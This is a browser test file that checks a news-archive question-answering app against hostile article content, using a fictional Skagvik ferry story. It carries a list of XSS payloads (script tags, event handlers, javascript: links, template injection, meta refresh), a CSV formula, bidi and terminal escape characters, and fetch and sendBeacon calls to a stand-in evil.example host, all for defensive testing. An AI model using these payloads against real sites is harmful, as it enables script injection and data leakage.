"""A folder in which every field of every article attacks the reader: read for real, asked for real, in a real Chromium.

Whoever adds a place of the page where words of an article, a file name or a question stand adds a row to `PLACES`.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Dialog, expect

from app.__main__ import main
from app.answer import Answer, Statement, Turn
from app.ask import AskOptions, ask_stream
from app.notebook.file import NotebookFile
from app.tables import render_tally_csv
from app.web.server import build_app, serve
from app.web.site import Site
from ingest.encode import load_encoder
from ingest.job import ingest
from store import Store, open_sink, open_store
from tests.browser.conftest import Chat

# Each says by its number which one had an effect.
ATTACKS = (
    "<script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=2">',
    '<img src="https://evil.example/pixel.png">',
    "<svg/onload=window.hacked=3><animate onbegin=window.hacked=4 attributeName=x></svg>",
    '<iframe src="https://evil.example/frame"></iframe>',
    "[click](javascript:window.hacked=5) ![seen](https://evil.example/seen.png) https://evil.example/bare",
    '<a href="javascript:window.hacked=6">there</a>',
    "${window.hacked=7} `${window.hacked=8}` {{constructor.constructor('window.hacked=9')()}} {{{value}}} <%= x %>",
    "</mark></section></article></textarea></title></style><style>*{position:fixed!important;inset:0}</style>",
    "' onmouseover='window.hacked=10' style='position:fixed;inset:0;background:url(https://evil.example/css.png)",
    "$$\\href{javascript:window.hacked=11}{x}$$ <math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "\x1b[31mred\x1b]0;hacked\x07\x1b[2J \u202egnp.exe\u2066 \u200f",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<form action="https://evil.example/"><button autofocus onfocus="window.hacked=12">Log in</button></form>',
    "<details open ontoggle=window.hacked=13><video src=https://evil.example/v onloadstart=window.hacked=14>",
)
ALL = " ".join(ATTACKS)
LONG = "W" * 100_000
IN_A_FOLDER = "<img src=x onerror=window.hacked=20> [f](javascript:hacked)"
IN_A_NAME = "\"'><svg onload=window.hacked=21> ${window.hacked=22} \u202etxt.txt"

WHO = "Who is the harbour master of Skagvik?"
HOW_MANY = "How many articles mention Skagvik?"
WHAT = "What did the council of Skagvik say about the ferry?"
WHEN = "Timeline of the Skagvik ferry"
UNSAID = f"How tall is the tower of Verona? {ALL}"[:3900]


def asking(question: str) -> Callable[[Chat], None]:
    return lambda chat: chat.ask(question)


def unfold(chat: Chat) -> None:
    chat.page.evaluate("for (const fold of document.querySelectorAll('#conversation details')) fold.open = true")


def open_each(chat: Chat) -> None:
    unfold(chat)
    keys = chat.page.locator("#conversation a[href^='#']").evaluate_all("as => as.map(a => a.getAttribute('href'))")
    for key in list(dict.fromkeys(str(k)[1:] for k in keys))[:6]:
        chat.open(key)
        chat.page.evaluate("for (const fold of document.querySelectorAll('#pane details')) fold.open = true")


def hover(chat: Chat) -> None:
    for a in chat.page.locator("#conversation a:visible").all()[:5]:
        a.hover()
        chat.page.wait_for_timeout(150)


def edit(chat: Chat) -> None:
    for button in chat.page.locator("[data-do=edit]").all()[:1]:
        button.click()


def reload(chat: Chat) -> None:
    chat.page.reload()
    chat.page.locator(".dl-done").first.wait_for()


def archive(chat: Chat) -> None:
    chat.page.locator("#tab-archive").click()
    chat.page.locator(".dl-open-article").first.wait_for()


def grouped_by(group: str) -> Callable[[Chat], None]:
    def unfolded(chat: Chat) -> None:
        archive(chat)
        chat.page.locator(f"[data-group={group}]").click()
        chat.page.locator(".dl-group").first.wait_for()
        folded = chat.page.locator(".dl-group button[aria-expanded=false]")
        for _ in range(min(3, folded.count())):
            folded.first.click()

    return unfolded


def ticked(chat: Chat) -> None:
    archive(chat)
    for box in chat.page.locator("tbody .dl-col-tick input").all()[:3]:
        box.check()
    chat.page.locator("#tab-chat").click()
    chat.page.locator("#scope .dl-piece").first.wait_for()


def beside_the_archive(chat: Chat) -> None:
    archive(chat)
    for button in chat.page.locator(".dl-open-article").all()[:4]:
        button.click()
        chat.page.locator("#pane .dl-source h2").wait_for()
        chat.page.evaluate("for (const fold of document.querySelectorAll('#pane details')) fold.open = true")
        chat.page.keyboard.press("Escape")


def as_scraped(chat: Chat) -> None:
    chat.ask(WHO)
    chat.open("c-1-1")
    chat.page.locator("[data-do=scraped]").click()
    chat.page.locator("[data-do=scraped][aria-pressed=true]").wait_for()


def conversations(chat: Chat) -> None:
    chat.ask(UNSAID)
    chat.page.get_by_role("button", name="Conversations").click()
    chat.page.get_by_label("Search in conversations").fill("Verona")
    chat.page.locator(".dl-kept").first.wait_for()


def shared(chat: Watched) -> None:
    chat.ask(f"{WHO} {ATTACKS[1]}")
    chat.page.get_by_role("button", name="Share link").click()
    chat.page.get_by_role("button", name="Make the link").click()
    chat.page.goto(chat.page.get_by_label("The link").input_value())
    expect(chat.page).to_have_title(re.compile("hacked"))  # it is called by its question
    chat.title = chat.page.title()
    chat.page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")


def exported(chat: Watched) -> None:
    chat.ask(f"{WHO} {ATTACKS[1]}")
    chat.page.get_by_role("button", name="Export").click()
    with chat.page.expect_download() as started:
        chat.page.get_by_role("link", name="The whole conversation as HTML").click()
    page = started.value.path().read_text(encoding="utf-8")
    # From the server, so that nothing but the page's own care keeps it from doing harm.
    chat.page.route("**/exported", lambda route: route.fulfill(body=page, content_type="text/html"))
    chat.page.goto(chat.page.url.split("#")[0].rstrip("/") + "/exported")
    expect(chat.page).to_have_title(re.compile("hacked"))  # it is called by its question
    chat.title = chat.page.title()


def many(chat: Chat) -> None:
    chat.page.locator("#tab-questions").click()
    chat.page.get_by_role("button", name="Many at once").click()
    chat.page.locator("#dl-q-paste").fill(f"{WHO}\n{UNSAID}\n{HOW_MANY} {ATTACKS[1]}")
    chat.page.get_by_role("button", name="List the questions").click()
    chat.page.locator(".dl-q-start").click()
    batch = chat.page.locator("[data-batch]:has(.dl-q-table)")
    batch.locator(".dl-q-far", has_text="done").wait_for()
    for row in batch.locator("tr[data-row] button").all():
        row.click()
    batch.locator(".dl-q-whole a.dl-marker").first.click()
    chat.page.locator("#pane mark.cited").wait_for()


def saved(chat: Chat) -> None:
    chat.page.locator("#tab-questions").click()
    chat.page.get_by_label("Question to save").fill(f"{WHO} {ATTACKS[0]} {ATTACKS[1]}")
    chat.page.keyboard.press("Enter")
    item = chat.page.locator(".dl-q-item").first
    item.get_by_role("button", name="Show answer").click()
    item.locator(".dl-q-answer").wait_for()


# What shows words of an article, a file name or a question, and how to get there.
PLACES: dict[str, Sequence[Callable[[Watched], None]]] = {
    "an answer": [asking(WHO)],
    "another answer": [asking(WHAT)],
    "a timeline": [asking(WHEN)],
    "a count and its list": [asking(HOW_MANY), unfold],
    "a hostile question that is not answered": [asking(UNSAID)],
    "a hostile question that is answered": [asking(f"{WHO} {ATTACKS[1]} {ATTACKS[5]}")],
    "an article": [asking(WHO), open_each],
    "an article that was counted": [asking(HOW_MANY), open_each],
    "the nearest passages": [asking(UNSAID), open_each],
    "what the mouse is over": [asking(WHO), hover],
    "a question being edited": [asking(UNSAID), edit],
    "a conversation after a reload": [asking(UNSAID), reload],
    "a page as it was scraped": [as_scraped],
    "the archive": [archive],
    "the archive by stories": [grouped_by("story")],
    "the archive by outlets": [grouped_by("outlet")],
    "the archive by folders": [grouped_by("folder")],
    "articles beside the archive": [beside_the_archive],
    "what is asked of": [ticked],
    "an answer from ticked articles": [ticked, asking(WHO)],
    "the list of conversations": [conversations],
    "a shared answer": [shared],
    "an exported conversation": [exported],
    "many questions and an article beside them": [many],
    "a saved question": [saved],
}


# What an attack would have left behind: elements, handlers, addresses, characters that turn or steer, a page laid over.
TRACES = """() => {
    const found = [];
    const own = document.querySelectorAll(
        document.querySelector('gradio-app')
            ? '#panes *, #archive *, #questions *, #masthead *, dialog *, #dl-say, body > :not(script):not(gradio-app)'
            : 'body *');
    const addresses = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc'];
    const words = ['title', 'value', 'aria-label'];
    for (const e of own) {
        const what = e.tagName.toLowerCase();
        if (['script', 'iframe', 'object', 'embed', 'video', 'audio', 'math', 'meta', 'base', 'link', 'style', 'img',
             'animate', 'frame', 'template'].includes(what)) found.push(what);
        if (what === 'form' && e.hasAttribute('action')) found.push('form with an action');
        for (const { name, value } of e.attributes) {
            if (name.startsWith('on')) found.push(`${what} ${name}`);
            if (addresses.includes(name) && !/^(#|[/](?![/])|data:image[/]svg)/.test(value))
                found.push(`${what} ${name}=${value}`);
            if (/evil\\.example|hacked/.test(value) && !words.includes(name) && !name.startsWith('data-'))
                found.push(`${what} ${name}=${value}`);
        }
        if (e.closest('#panes') && getComputedStyle(e).position === 'fixed') found.push(`${what} laid over`);
    }
    const titles = [...own].map(e => e.getAttribute('title') || '');
    // The article itself is there to the character: what turns the writing stands alone there, what steers is not seen.
    const panes = document.createElement('div');
    const shown = [...document.querySelectorAll('#panes, #archive, #questions, dialog, #dl-card')];
    for (const e of shown.length ? shown : [document.body]) panes.append(e.cloneNode(true));
    for (const e of panes.querySelectorAll('.dl-source-text bdi')) e.remove();
    for (const e of panes.querySelectorAll('.dl-source-text'))
        e.textContent = e.textContent.replace(/[\\u0000-\\u001f]/g, '');
    const text = panes.textContent + titles.join('');
    const odd = text.match(
        /[\\u0000-\\u0008\\u000e-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c]/g);
    if (odd) found.push(`characters ${[...new Set(odd)].map(c => c.codePointAt(0).toString(16))}`);
    if (document.documentElement.scrollWidth > window.innerWidth) found.push('wider than the window');
    const box = document.querySelector('#question textarea');
    if (box && box.checkVisibility() && !document.querySelector('dialog[open]')) {
        const input = box.getBoundingClientRect();
        const top = document.elementFromPoint(input.x + input.width / 2, input.y + input.height / 2);
        if (!top || !top.closest('#question')) found.push('the question is covered');
    }
    return found;
}"""


def write_hostile_folder(folder: Path) -> None:
    """Articles about a harbour, an attack in each field."""
    place = folder / IN_A_FOLDER
    place.mkdir(parents=True)
    story = "\n\n".join(
        f"On day {n} of the storm the ferry of Skagvik stayed in port {attack} because the wind was too strong for it, "
        f"and the council of the town said that nobody had been hurt. The crew waited in the town hall until evening."
        for n, attack in enumerate(ATTACKS, 1)
    )
    who = f"Mira Lunde is the harbour master of Skagvik {ATTACKS[0]} {ATTACKS[1]}, since 2019."
    (place / IN_A_NAME).write_text(f"Storm keeps the Skagvik ferry in port\n\n{who}\n\n{story}\n", encoding="utf-8")
    plain = (
        "The wind had been strong since the morning. The crew checked the ropes, and the passengers waited at home. "
    )
    long = f"A long word in Skagvik\n\n{plain * 3}\n\nIt read {LONG}.\n\n{plain}\n"
    (folder / "long.txt").write_text(long)
    lines = [
        {
            "title": f"=HYPERLINK(\"https://evil.example\") Skagvik ferry {attack}", "author": f"Ida {attack}",
            "source": f"Outlet {attack}", "publisher": f"Outlet {attack}", "site": attack,
            "url": f"javascript:{attack}",
            "date": f"2021-03-{n:02}", "section": attack, "description": attack,
            "text": f"The ferry of Skagvik stayed in port on day {n} {attack} and the crew waited.\n\n"
            f"The harbour master of Skagvik, Mira Lunde, counted {n} boats {attack} and went home.\n\n{plain * 3}",
        }
        for n, attack in enumerate(ATTACKS, 1)
    ]  # fmt: skip
    lines.append({"title": "Half a \ud800 character", "text": f"{plain * 3} \udfff Skagvik."})
    lines.append({"title": "Nothing \u0000 in it", "text": f"{plain * 3} \u0000 Skagvik."})
    (folder / "wire.jsonl").write_text("\n".join(json.dumps(line) for line in lines), encoding="ascii")
    (folder / "page.html").write_text(
        f"<html><head><title>Skagvik pier {ALL.replace('</title>', '')}</title>"
        '<meta name="author" content="&lt;script&gt;window.hacked=30&lt;/script&gt;">'
        '<meta property="og:site_name" content="&lt;img src=x onerror=window.hacked=31&gt;">'
        '<meta property="article:published_time" content="2021-03-20"></head><body><article>'
        "<h1>Skagvik pier &lt;img src=x onerror=window.hacked=32&gt;</h1><p>The pier of Skagvik was rebuilt in 2021, "
        "&lt;script&gt;window.hacked=33&lt;/script&gt; the council said. It cost 84 million crowns.</p>"
        "<p>The harbour master of Skagvik, Mira Lunde, opened the pier on 20 March 2021.</p></article></body></html>",
        encoding="utf-8",
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    folder = tmp_path_factory.mktemp("hostile")
    write_hostile_folder(folder / "articles")
    with open_sink(folder / "store", encoder_spec=load_encoder().spec) as sink:
        ingest([folder / "articles"], sink)
    with open_store(folder / "store") as store:
        yield store


@pytest.fixture(scope="module")
def hostile_address(hostile: Store, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    def answer(question: str, *, history: Sequence[Turn], options: AskOptions) -> Iterator[Statement | Answer]:
        return ask_stream(question, history=history, store=hostile, options=options)

    notebook = NotebookFile(tmp_path_factory.mktemp("hostile") / "notebook.sqlite")
    served = serve(build_app(Site(answer, hostile, notebook, title=f"Ours {ATTACKS[0]}", examples=(f"Who? {ALL}",))))
    yield served.address
    served.close()


class Watched(Chat):
    """A tab with the chat in it that notes whatever an attack would do."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.dialogs: list[str] = []
        page = context.new_page()
        page.on("dialog", self._dismiss)
        page.on("popup", lambda p: self.dialogs.append(f"popup {p.url}"))
        super().__init__(page, address)
        self.title = page.title()
        self.address = address

    def _dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def traces(self) -> list[str]:
        """All that an attack did."""
        found = [str(f) for f in self.page.evaluate(TRACES)]
        hacked = self.page.evaluate("window.hacked")
        found += [f"hacked by {hacked}"] if hacked is not None else []
        found += [f"title {self.page.title()}"] if self.page.title() != self.title else []
        found += [f"moved to {self.page.url}"] if not self.page.url.startswith(self.address) else []
        return found + self.dialogs + self.elsewhere


@pytest.fixture
def watched(contexts: Callable[[str, int], BrowserContext], hostile_address: str) -> Iterator[Watched]:
    chat = Watched(contexts("light", 1280), hostile_address)
    yield chat
    chat.page.close()


@pytest.mark.parametrize("place", PLACES)
def test_nothing_hostile_has_any_effect_in(place: str, watched: Watched) -> None:
    for step in PLACES[place]:
        step(watched)
    watched.page.wait_for_timeout(200)
    assert watched.traces() == []


def test_every_field_of_the_hostile_articles_is_there_to_be_shown(hostile: Store) -> None:
    articles = hostile.articles()
    shown = {
        "headline": any("window.hacked" in (a.headline or "") for a in articles),
        "outlet": any("hacked" in (a.outlet or "") for a in articles),
        "name": any("window.hacked=21" in a.source for a in articles),
        "folder": any("window.hacked=20" in a.source for a in articles),
        "text": any("window.hacked=1<" in hostile.text_of(a.article_id) for a in articles),
    }
    assert [field for field, is_there in shown.items() if not is_there] == []
    assert not any(a.authors for a in articles)  # a byline that is no name is not taken for one


def test_what_was_hostile_is_shown_as_words(watched: Watched) -> None:
    watched.ask(WHO)
    assert "hacked" in watched.page.locator("#conversation").inner_text()
    open_each(watched)
    assert "hacked" in watched.page.locator("#pane").inner_text()


# --- where escaping failed ------------------------------------------------------------------------------------------

INJECTED = {
    "an image's handler": "<img src=x onerror='window.hacked=1'>",
    "a drawing's handler": "<svg onload='window.hacked=1'></svg>",
    "a handler of something in focus": "<input autofocus onfocus='window.hacked=1'>",
    "a frame that is a script": "<iframe src='javascript:parent.hacked=1'></iframe>",
    "a frame with a page in it": "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "a frame of data": "<iframe src='data:text/html,<script>parent.hacked=1</script>'></iframe>",
    "an object": "<object data='javascript:parent.hacked=1'></object>",
    "a picture elsewhere": "<img src='https://evil.example/a.png'>",
    "a style that fetches": "<style>body{background:url(https://evil.example/b.png)}</style>",
    "another base": "<base href='https://evil.example/'>",
}


@pytest.mark.parametrize("attack", INJECTED)
def test_an_element_that_did_get_in_runs_nothing_and_fetches_nothing(chat: Chat, attack: str) -> None:
    chat.page.evaluate("markup => document.querySelector('#pane .dl-source').innerHTML = markup", INJECTED[attack])
    chat.page.wait_for_timeout(300)
    assert chat.page.evaluate("window.hacked") is None
    assert chat.elsewhere == [] or all(
        chat.page.evaluate("u => !performance.getEntriesByName(u).some(e => e.responseStatus)", u)
        for u in chat.elsewhere
    )


@pytest.mark.parametrize(
    "attempt",
    [
        "add('script', { textContent: 'window.hacked = 1' })",
        "add('script', { src: 'https://evil.example/x.js' })",
        "add('script', { src: 'data:text/javascript,window.hacked=1' })",
        "add('a', { href: 'javascript:window.hacked=1' }).click()",
        "location.href = 'javascript:window.hacked=1'",
        "add('form', { action: 'javascript:window.hacked=1' }).submit()",
        "document.body.setAttribute('onclick', 'window.hacked=1'); document.body.click()",
        "try { Function('window.hacked = 1')() } catch {}",
        "try { (async () => {}).constructor('window.hacked = 1')() } catch {}",
        "fetch('https://evil.example/').catch(() => {})",
        "navigator.sendBeacon('https://evil.example/', 'x')",
    ],
)
def test_the_browser_refuses_what_the_server_did_not_write(chat: Chat, attempt: str) -> None:
    script = f"""() => new Promise(done => {{
        let refused = null;
        document.addEventListener('securitypolicyviolation', e => {{ refused = e.effectiveDirective; }});
        const add = (what, props) => {{
            const made = Object.assign(document.createElement(what), props);
            document.body.append(made);
            return made;
        }};
        setTimeout(() => {{ {attempt}; }}, 0);  // later: what is evaluated at once is the test's own, and may be
        setTimeout(() => done([window.hacked ?? null, refused]), 400);
    }})"""
    hacked, refused = chat.page.evaluate(script)
    assert hacked is None
    assert refused is not None


def test_the_page_works_without_a_single_violation_of_its_policy(chat: Chat, address: str) -> None:
    chat.page.add_init_script(
        "window.violations = []; document.addEventListener('securitypolicyviolation', "
        "e => window.violations.push(e.effectiveDirective + ' ' + e.blockedURI))"
    )
    chat.page.goto(address)
    chat.page.locator(".dl-log").wait_for()
    chat.ask("Will the ferry sail?")
    chat.open("c-1-2")
    chat.ask("count the council")
    chat.page.get_by_role("button", name="New conversation").click()
    chat.page.locator(".dl-welcome").wait_for()
    assert chat.page.evaluate("window.violations") == []


# --- away from the page ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("words", [["ask", WHO], ["ask", HOW_MANY], ["sources"], ["search", "Skagvik"], ["status"]])
def test_a_terminal_is_not_steered(hostile: Store, words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*words, "--store", str(hostile.path)]) == 0
    said = "".join(capsys.readouterr())
    assert "Skagvik" in said or words == ["status"]
    odd = {
        c for c in said if c not in "\n\t" and (unicodedata.category(c) in ("Cc", "Cs") or c in "\u202e\u2066\u200f")
    }
    assert odd == set()


def test_a_table_holds_no_formula(hostile: Store) -> None:
    from app.ask import ask

    answer = ask(HOW_MANY, store=hostile)
    table = render_tally_csv(answer, hostile)
    assert "HYPERLINK" in table
    assert not re.search(r'(?:^|[,;\t|\n])"?\s*[=+@\uff1d]', table)
